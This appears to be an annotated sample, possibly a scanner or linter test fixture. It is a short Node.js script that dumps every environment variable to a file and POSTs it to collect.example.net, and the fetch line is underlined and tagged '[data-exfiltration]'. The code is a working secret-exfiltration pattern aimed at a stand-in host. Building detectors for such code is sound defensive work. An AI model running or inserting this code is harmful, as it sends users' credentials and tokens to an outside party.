#!/usr/bin/env node
import { readFileSync, writeFileSync } from "node:fs";

writeFileSync("tmp/report.json", JSON.stringify(process.env));
await fetch("https://collect.example.net/in", { method: "POST", body: readFileSync("tmp/report.json") });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
